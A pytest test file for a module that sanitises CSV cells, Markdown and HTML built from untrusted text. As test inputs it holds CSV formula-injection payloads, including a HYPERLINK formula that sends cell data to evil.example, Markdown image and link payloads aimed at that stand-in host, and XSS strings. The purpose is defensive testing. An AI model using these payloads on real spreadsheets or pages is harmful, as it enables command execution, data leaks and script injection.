"""Text from people or files made safe: CSV cells a spreadsheet would run (issue 19, item 8) and
Markdown that would make the browser fetch something (item 9). The Markdown is checked with a
CommonMark parser (markdown-it-py): what it renders from the sanitised text has no image, no
HTML and no link but the visible text."""

import csv
import io
import re

import pandas as pd
import pytest
from markdown_it import MarkdownIt

from structext_core.text.safe_text import (
    box_html,
    csv_cell,
    csv_rows,
    figures_html,
    frame_csv,
    html_table,
    markdown_table,
    markdown_text,
    preformatted_html,
    printed_number_columns,
    progress_html,
)

# ---------------------------------------------------------------- CSV

ATTACKS = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
           '=HYPERLINK("http://evil.example/?x="&A1,"click")', "-", "+", "=", "@"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_start_is_written_as_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "a=1", " =1", "", "'=1", "-2", "+3", "-2.5", "-1e5", ".5", 0, -2, -2.5,
                                   True, None])
def test_other_cells_and_numbers_stay_as_they_are(value):
    assert csv_cell(value) == value


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _formula_cells(table: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: a formula start, and not a plain number."""
    return [cell for row in table for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))
            or (cell.startswith("-") and not _number(cell))]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_rows_and_frames_write_every_text_cell_and_header_safely():
    rows = [{"name": t, "score": -0.5, "n": 3, "note": None} for t in ATTACKS]
    table = _cells(csv_rows(rows, ["name", "score", "n", "note"]))
    assert not _formula_cells(table)
    assert [row[0] for row in table[1:]] == ["'" + t for t in ATTACKS] and table[1][1:] == ["-0.5", "3", ""]
    frame = pd.DataFrame({"=model": ATTACKS, "mean": [-1.5] * len(ATTACKS), "below": [True] * len(ATTACKS),
                          "kind": pd.Categorical(["-x"] * len(ATTACKS))})
    written = _cells(frame_csv(frame))
    assert written[0] == ["'=model", "mean", "below", "kind"]
    assert not _formula_cells(written)
    assert written[1][1:] == ["-1.5", "True", "'-x"]  # numbers stay numbers
    assert frame["=model"].tolist() == ATTACKS  # the frame itself is untouched


# ---------------------------------------------------------------- Markdown

OUTSIDE = "http://evil.example/px.png"
MALICIOUS = [
    f"![p]({OUTSIDE})",
    f"![P]({OUTSIDE.upper()})",
    f'![p]({OUTSIDE} "title")',
    f"![p](<{OUTSIDE}>)",
    "![p](//evil.example/px.png)",
    "![p](data:image/png;base64,iVBORw0KGgo=)",
    f"![a [nested] alt]({OUTSIDE})",
    f"![a ![inner]({OUTSIDE}) b]({OUTSIDE})",
    f"[![badge]({OUTSIDE})](http://evil.example/)",
    f"![p][ref]\n\n[ref]: {OUTSIDE}",
    f"![ref]\n\n[ref]: {OUTSIDE}",
    f"![p] [ref]\n\n[REF]: <{OUTSIDE}> 'title'",
    f"\\\\![p]({OUTSIDE})",
    f"\\\\\\![p]({OUTSIDE})",
    f"!\\\\[p]({OUTSIDE})",
    f"<img src=\"{OUTSIDE}\">",
    f"<IMG SRC={OUTSIDE}>",
    f"<video poster='{OUTSIDE}'></video>",
    f"<{OUTSIDE}>",
    f"![p]({OUTSIDE}\\)",
    "![p](http://evil.example/a(b)c.png)",
    f"`code` ![p]({OUTSIDE}) `more`",
    f"``![p]({OUTSIDE})``",
    f"\\`![p]({OUTSIDE})`",
    "text\\",
    f"* ![p]({OUTSIDE})\n* item",
    f"> ![p]({OUTSIDE})",
    f"| a | b |\n|---|---|\n| ![p]({OUTSIDE}) | x |",
    f"![p](\n{OUTSIDE}\n)",
    f"!![p]({OUTSIDE})",
    f"[image: p -> {OUTSIDE}]\n\n[image: p -> {OUTSIDE}]: {OUTSIDE}\n\n!![p]({OUTSIDE})",
    f"&#33;[p]({OUTSIDE})",
    "[click](javascript:alert(1)) [site](http://evil.example/)",
    "[ref link][r]\n\n[r]: http://evil.example/",
    f":red[![p]({OUTSIDE})]",
]
PARSER = MarkdownIt("commonmark", {"html": True}).enable("table")


def _render(text: str) -> str:
    return PARSER.render(text)


#: Inputs that load or link nothing even raw (an escaped bracket, a code span, a lone backslash):
#: kept to check that sanitising them shows them as before.
HARMLESS = {f"![p]({OUTSIDE}\\)", f"``![p]({OUTSIDE})``", "text\\"}


@pytest.mark.parametrize("text", MALICIOUS)
def test_the_parser_used_here_does_see_the_attack(text):
    """The oracle works: raw, each text renders something that loads or links."""
    html = _render(text).lower()
    assert ("<img" in html or "<a " in html or "<video" in html) != (text in HARMLESS)


@pytest.mark.parametrize("text", MALICIOUS)
def test_sanitised_markdown_loads_and_links_nothing(text):
    html = _render(markdown_text(text))
    assert "<img" not in html.lower() and "<video" not in html.lower() and "<a " not in html
    assert not re.search(r"<[^>]*src=", html, re.IGNORECASE)  # an attribute, not text that shows one


def test_an_image_becomes_visible_text_with_its_target():
    out = markdown_text(f"Look: ![a pixel]({OUTSIDE}) here")
    assert _render(out) == f"<p>Look: [image: a pixel -&gt; {OUTSIDE}] here</p>\n"
    nested = _render(markdown_text(f"![a [b] c]({OUTSIDE})"))
    assert f"[image: a [b] c -&gt; {OUTSIDE}]" in nested
    assert f"[image: p -&gt; {OUTSIDE}]" in _render(markdown_text(f"![p](<{OUTSIDE}>)"))


def test_links_show_their_target_and_formatting_stays():
    html = _render(markdown_text("**bold** and *it* and [site](http://example.org/x) and <http://example.org/y>"))
    assert "<strong>bold</strong>" in html and "<em>it</em>" in html
    assert "[site](http://example.org/x)" in html and "&lt;http://example.org/y&gt;" in html


def test_plain_text_renders_as_before():
    for text in ("A question: what is 3 < 4 in x[0]?", "Line one  \nline two", "a \\[literal\\] bracket",
                 "", "Ünïcödé and `code`", "C:\\path\\to\\file"):
        assert _render(markdown_text(text)) == _render(text) or text.count("[") + text.count("<") > 0
        assert _visible(_render(markdown_text(text))) == _visible(_render(text.replace("\\[", "[")
                                                                          .replace("\\]", "]")))


def _visible(html: str) -> str:
    return re.sub(r"<[^>]+>", "", html)


def test_long_hostile_text_is_sanitised():
    """Many openers that never close, and a run of backslashes: one pass (no search per
    opener); the speed is measured in benchmarks/bench_safe_text.py, not here."""
    text = "![" * 50_000 + "](" * 50_000 + "[" * 100_000 + "\\" * 100_001
    out = markdown_text(text)
    assert out.count("\\[") >= 150_000 and "<img" not in _render(out[:20_000])


# ---------------------------------------------------------------- Markdown tables (issue 46)


def test_a_markdown_table_keeps_numbers_as_read_and_its_cells_safe():
    frame = pd.DataFrame({"format": ["csv", "x|![i](http://evil.example/a.png)", None],
                          "samples": [1234, 5, 0], "mean": [0.5, 1.25, float("nan")]})
    text = markdown_table(frame)
    lines = text.split("\n")
    assert lines[0] == "| format | samples | mean |" and lines[1] == "|---|---:|---:|"  # numbers aligned right
    assert lines[2] == "| csv | 1,234 | 0.5 |"
    assert lines[4] == "|  | 0 |  |"  # a missing value is an empty cell, never None or nan
    html = MarkdownIt().enable("table").render(text)
    assert html.count("<tr>") == 4 and html.count("<td") == 9  # the "|" of a cell split no row
    assert "<img" not in html and "<a " not in html and "evil.example" in html


@pytest.mark.parametrize("cell", ["a*b*c", "_x_ `y` ~z~ $1+2$", "[l](http://e.example) <b>bold</b> &amp;", "# h", "- 1",
                                  "x\\|y", "=SUM(A1)"])
def test_a_markdown_tables_cell_reads_exactly_as_it_is(cell):
    """A reference's table in Explore: no character of a cell may turn into markup (issue 46)."""
    html = MarkdownIt().enable("table").render(markdown_table(pd.DataFrame({"cell": [cell]})))
    body = re.search(r"<td>(.*)</td>", html).group(1)
    assert "<" not in body.replace("&lt;", "") and body.replace("&lt;", "<").replace("&gt;", ">").replace(
        "&quot;", '"').replace("&amp;", "&") == cell


def test_an_html_table_shows_each_cell_as_it_is_numbers_right_and_a_row_on_one_line():
    from lxml import html as lxml_html

    frame = pd.DataFrame({"item": ["<img src=x onerror=alert(1)> & co", "a\n  b", None],
                          "answers": [1234, 5, 0], "mean": [0.5, 1.25, float("nan")]})
    made = html_table(frame)
    assert "<img" not in made and "white-space:nowrap" in made and "overflow-x:auto" in made
    tree = lxml_html.fromstring(made.split("</style>", 1)[1])
    assert [th.text_content() for th in tree.iter("th")] == ["item", "answers", "mean"]
    rows = [[td.text_content() for td in tr.iter("td")] for tr in tree.iter("tr")][1:]
    assert rows == [["<img src=x onerror=alert(1)> & co", "1,234", "0.5"], ["a b", "5", "1.25"], ["", "0", ""]]
    assert [td.get("class") for td in next(tree.iter("tbody")).iter("td")][:3] == [None, "sx-n", "sx-n"]


def test_a_tables_column_help_is_its_headings_title_as_text():
    from lxml import html as lxml_html

    frame = pd.DataFrame({"C": ["1.0"], "O 95%": ["0.5-0.7"], "system": ["x"]})
    made = html_table(frame, column_help={"C": 'C · "Component" <b>Existence</b> & more', "gone": "not a column"})
    assert "<b>" not in made
    tree = lxml_html.fromstring(made.split("</style>", 1)[1])
    assert [th.get("title") for th in tree.iter("th")] == ['C · "Component" <b>Existence</b> & more', None, None]
    assert [th.text_content() for th in tree.iter("th")] == ["C", "O 95%", "system"]


def test_a_shaded_table_tints_each_given_cell_by_its_value_and_nothing_else():
    from lxml import html as lxml_html

    frame = pd.DataFrame({"model": ["<b>m</b>", "n", "o"], "x": ["10.0", "", "3.5"], "y": ["7", "8", "9"]})
    shade = pd.DataFrame({"x": [1.0, float("nan"), 0.0], "y": [0.5, 2.0, -1.0]})  # out of range: held to 0..1
    made = html_table(frame, shade)
    tree = lxml_html.fromstring(made.split("</style>", 1)[1])
    cells = [list(tr.iter("td")) for tr in tree.iter("tr")][1:]
    assert [[td.text_content() for td in row] for row in cells] == [["<b>m</b>", "10.0", "7"], ["n", "", "8"],
                                                                      ["o", "3.5", "9"]]
    tints = [[td.get("style") for td in row] for row in cells]
    assert [row[0] for row in tints] == [None, None, None] and tints[1][1] is None  # text, and an empty cell
    alpha = {(r, c): float(tints[r][c].rsplit(",", 1)[1].rstrip(")")) for r in range(3) for c in (1, 2)
             if tints[r][c]}
    assert alpha[(0, 1)] == alpha[(1, 2)] > alpha[(0, 2)] > alpha[(2, 1)] == alpha[(2, 2)]
    assert [td.get("class") for td in cells[0]] == [None, "sx-n", "sx-n"]  # shaded columns align right
    assert html_table(frame) == html_table(frame, None) and "background" not in html_table(frame)


def test_a_progress_bar_shows_its_text_as_it_is_and_holds_its_fill_to_the_bar():
    from lxml import html as lxml_html

    for fraction, width, now in ((0.5, "50.0%", "50"), (1.7, "100.0%", "100"), (-1, "0.0%", "0"),
                                 (float("nan"), "0.0%", "0")):
        made = progress_html('<img src=x onerror=alert(1)> "3 of 6"', fraction)
        tree = lxml_html.fromstring(made)
        assert tree.text_content() == '<img src=x onerror=alert(1)> "3 of 6"' and not tree.findall(".//img")
        bar, = [element for element in tree.iter() if element.get("role") == "progressbar"]
        assert bar.get("aria-valuenow") == now and bar.get("aria-label") == '<img src=x onerror=alert(1)> "3 of 6"'
        assert f"width:{width}" in bar[0].get("style")


def test_a_box_shows_its_title_rows_and_help_as_text():
    from lxml import html as lxml_html

    made = box_html("Your <b>progress</b>", [("Progress", "<img src=x onerror=alert(1)>"), ("Pauses", 2)],
                    help='Pauses: "the button" & <idle>')
    box = lxml_html.fromstring(made).find_class("sx-box")[0]
    assert not box.findall(".//img") and not box.findall(".//b")
    assert box.text_content() == "Your <b>progress</b>Progress: <img src=x onerror=alert(1)>Pauses: 2?"
    assert [strong.text for strong in box.findall(".//strong")] == ["<img src=x onerror=alert(1)>", "2"]
    mark, = box.find_class("sx-box-help")
    assert mark.get("title") == mark.get("aria-label") == 'Pauses: "the button" & <idle>'
    assert not lxml_html.fromstring(box_html("Box", [("A", "1")])).find_class("sx-box-help")  # no help, no mark


def test_figures_show_each_label_value_and_definition_as_they_are_in_columns():
    from lxml import html as lxml_html

    made = figures_html([("People <b>", "1,234", 'taken off: 2 "people" & more'), ("Code", "<script>x</script>"),
                         ("None", "–", None)], columns=4)
    assert "<script>" not in made and "<b>" not in made
    grid = lxml_html.fromstring(made.split("</style>", 1)[1])
    assert "repeat(4," in grid.get("style")
    figures = grid.find_class("sx-figure")
    assert [(f.find_class("sx-figure-label")[0].text_content(), f.find_class("sx-figure-value")[0].text_content(),
             f.find_class("sx-figure-label")[0].get("title")) for f in figures] == [
        ("People <b>", "1,234", 'taken off: 2 "people" & more'), ("Code", "<script>x</script>", None),
        ("None", "–", None)]
    assert "repeat(2," in figures_html([("A", "1"), ("B", "2")])  # a column a figure by default


def test_a_text_block_shows_hostile_text_as_it_is_and_numbers_its_lines():
    from lxml import html as lxml_html

    text = 'a </pre><script>alert(1)</script> &amp; <b>b</b>\n\n  indented "q"\r\nlast'
    plain = preformatted_html(text)
    numbered = preformatted_html(text, line_numbers=True, wrap=False, max_height=420)
    for page in (plain, numbered):
        tree = lxml_html.fromstring(f"<div>{page}</div>")
        assert not tree.xpath("//script") and not tree.xpath("//b")  # no markup of the text reaches the page
        pre = tree.xpath("//pre[@data-testid='sxPreformatted']")
        assert len(pre) == 1
    # every character as it is (an HTML parser, as a browser's, reads a CR LF as one line break)
    assert lxml_html.fromstring(f"<div>{plain}</div>").xpath("//pre")[0].text_content() == text.replace("\r\n", "\n")
    lines = lxml_html.fromstring(f"<div>{numbered}</div>").xpath("//span[@class='sx-l']")
    assert [line.text_content() for line in lines] == text.replace("\r\n", "\n").split("\n")  # a numbered line each, blanks kept
    assert "white-space:pre;" in numbered and "max-height:420px;" in numbered
    assert "white-space:pre-wrap;" in plain and "max-height" not in plain and "<style>" not in plain
    assert preformatted_html("", line_numbers=True).count('class="sx-l"') == 1  # an empty text: one empty line


def test_a_text_block_of_the_largest_reference_is_one_pass_of_escaped_lines():
    """The question page's limit (1,000,000 characters): each line once, escaped, nothing nested."""
    text = "<x>&\n" * 200_000
    page = preformatted_html(text, line_numbers=True)
    assert page.count('<span class="sx-l">') == 200_001 and page.count("&lt;x&gt;&amp;") == 200_000
    assert "<x>" not in page


def test_numbers_printed_as_text_are_found_and_aligned_right():
    printed = pd.DataFrame({"system": ["Original Image", "7B model", "Wan 2.6"], "size": ["-", "7B", "–"],
                            "C": ["82.65", "-0.5", "1,024"], "rank": ["3", "", "1"], "note": ["-", "", "–"]})
    assert printed_number_columns(printed) == ["C", "rank"]  # "7B" is no number; a column of dashes has none
    made = html_table(printed, right=printed_number_columns(printed))
    assert '<th class="sx-n">C</th>' in made and '<td class="sx-n">82.65</td>' in made and "<td>7B</td>" in made
    assert '<td class="sx-n">3</td>' in made and "<th>system</th>" in made
